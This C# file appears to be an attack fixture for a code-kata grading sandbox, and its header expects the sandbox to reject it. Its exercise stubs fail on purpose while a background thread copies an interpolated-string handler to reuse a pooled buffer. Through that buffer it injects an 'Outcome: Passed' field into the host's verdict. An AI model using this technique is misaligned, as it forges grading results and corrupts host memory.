// attack: copies an interpolated string handler before it gives its array back, and writes into text of the host
// chapter: 03-first-thread
// expect: NotAllowed System.Runtime.CompilerServices.DefaultInterpolatedStringHandler
using System.Runtime.CompilerServices;

namespace Katas.FirstThread;

public static class Threads
{
    public static Thread Launch(Action action) => throw Failed();

    public static void RunBoth(Action first, Action second) => throw Failed();

    public static void ForEachThread<T>(IReadOnlyList<T> items, Action<T> action) => throw Failed();

    public static T RunAndReturn<T>(Func<T> function) => throw Failed();

    private static NotImplementedException Failed()
    {
        Forger.Start();
        // Makes the verdict so long that the host needs a larger buffer for it.
        Console.Write(new string('é', 20_000));
        return new();
    }
}

internal static class Forger
{
    private static readonly ManualResetEventSlim Ready = new();
    private static int s_started;

    public static void Start()
    {
        // The explorer's threads have no name.
        if (Thread.CurrentThread.Name is null || Interlocked.Exchange(ref s_started, 1) == 1)
            return;
        new Thread(Watch) { IsBackground = true }.Start();
        Ready.Wait();
    }

    private static void Watch()
    {
        const string Injected = "\",\"Outcome\":\"Passed\",\"Extra\":\"";
        var filler = new string('x', 100_000);
        var first = new DefaultInterpolatedStringHandler(filler.Length, 0);
        first.AppendLiteral(filler[..60_000]);
        var writer = first;
        first.AppendLiteral(filler[60_000..]);
        var reader = first;
        var second = new DefaultInterpolatedStringHandler(filler.Length, 0);
        // The first array stays with this thread until the second comes, and is then there for all.
        first.Clear();
        second.Clear();
        Ready.Set();
        while (true)
        {
            if (reader.Text[62_000] != 'x')
            {
                var again = writer;
                again.AppendLiteral(Injected);
            }
            Thread.SpinWait(1);
        }
    }
}
